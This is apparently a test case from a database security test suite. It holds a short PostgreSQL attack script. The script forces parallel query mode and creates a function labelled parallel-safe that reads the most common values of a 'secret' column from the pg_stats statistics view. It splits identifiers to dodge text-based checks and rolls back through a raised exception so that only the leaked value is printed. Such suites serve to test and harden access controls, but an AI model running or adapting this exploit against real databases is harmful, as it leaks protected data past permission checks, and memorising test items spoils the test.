-- Makes a function that counts as parallel-safe by text, and has a worker read statistics with it.
-- wants: read
-- setup:
ANALYZE vlt_account;
-- attack:
DO $$ DECLARE x text; BEGIN
  PERFORM set_config(name, 'on', true) FROM pg_settings WHERE name IN ('force_parallel_mode', 'debug_parallel_query');
  BEGIN EXECUTE 'CREATE FUNCTION peek() RETURNS text PARALLEL SAFE LANGUAGE plpgsql AS ''BEGIN RETURN (SELECT most_common_vals::text FROM pg_' || 'stats WHERE tablename = ''''vlt_account'''' AND attname = ''''secret''''); END''';
    EXECUTE 'SELECT pe' || 'ek()' INTO x;
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RAISE NOTICE '%', x; END $$;
